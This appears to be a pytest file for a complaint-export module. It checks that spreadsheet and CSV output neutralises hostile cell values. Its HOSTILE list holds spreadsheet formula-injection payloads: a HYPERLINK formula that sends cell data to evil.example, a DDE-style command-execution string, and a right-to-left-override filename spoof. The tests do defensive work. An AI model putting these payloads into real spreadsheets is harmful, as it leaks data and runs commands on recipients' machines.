import io
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from monitor.complaints.base import Confirmation, Draft
from monitor.complaints.policy import Policy
from monitor.complaints.sheet import csv_rows
from monitor.complaints.table import CELL_CHARS, COLUMNS, csv_bytes, long_cells, rows_of, xlsx_bytes
from monitor.saved.sheets import sheets_of

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"free")',
    "+1-1|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "'=1+1",
    "0012345678901234567890",
    "https://evil.example/",
    "{=1+1}",
    "<b>x</b>&amp;",
    "gnp\u202egpj.exe",
    "دبوس الثعلب 狐狸徽章 значок",
    "a\nb",
    "_x0041_",
]


@pytest.fixture
def rows(
    draft: Draft, confirm: Callable[[Draft], Confirmation], ipp: Policy, now: datetime
) -> Callable[[str], list[dict[str, str]]]:
    """The rows of a complaint about one listing of this title."""

    def make(title: str) -> list[dict[str, str]]:
        hostile = replace(draft, targets=(replace(draft.targets[0], title=title, seller_name=title),))
        return rows_of(hostile, confirm(hostile), ipp, now)

    return make


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_every_cell_of_the_workbook_is_a_dead_text(
    rows: Callable[[str], list[dict[str, str]]], now: datetime, text: str
) -> None:
    made = rows(text)
    page = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(COLUMNS, made, now))).active
    assert page is not None
    header, *lines = page.iter_rows()
    assert [cell.value for cell in header] == list(COLUMNS)
    for row, cells in zip(made, lines, strict=True):
        for column, cell in zip(COLUMNS, cells, strict=True):
            assert cell.data_type in {"s", "n"}
            assert cell.hyperlink is None
            assert (cell.value or "") == row[column], column
            assert cell.value is None or isinstance(cell.value, str)


def test_what_no_cell_holds_is_told_in_the_cell_and_in_the_notes(
    rows: Callable[[str], list[dict[str, str]]], now: datetime
) -> None:
    made = rows("𝕱" * 40_000)
    page = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(COLUMNS, made, now))).active
    assert page is not None
    cell = str(page.cell(2, COLUMNS.index("title") + 1).value)
    assert len(cell.encode("utf-16-le")) // 2 <= CELL_CHARS
    assert cell.endswith("more characters: see title in listings.json)")
    kept = cell.count("𝕱")
    assert f"({40_000 - kept:,} more" in cell
    assert len(list(long_cells(made))) == 2


def test_the_same_rows_give_the_same_workbook(rows: Callable[[str], list[dict[str, str]]], now: datetime) -> None:
    assert xlsx_bytes(COLUMNS, rows("x"), now) == xlsx_bytes(COLUMNS, rows("x"), now)


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text())
def test_any_title_survives_the_round_trip_by_csv(rows: Callable[[str], list[dict[str, str]]], text: str) -> None:
    header, line = csv_rows(csv_bytes(COLUMNS, rows(text)))
    assert dict(zip(header, line, strict=True))["title"] == text


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.characters(blacklist_categories=["Cc", "Cs", "Cn"])).map(str.strip))
def test_any_visible_title_survives_the_round_trip_by_workbook(
    rows: Callable[[str], list[dict[str, str]]], now: datetime, tmp_path: Path, text: str
) -> None:
    file = tmp_path / "listings.xlsx"
    file.write_bytes(xlsx_bytes(COLUMNS, rows(text), now))
    header, line = sheets_of(str(file))[0]
    assert dict(zip(header, line, strict=True))["title"] == text
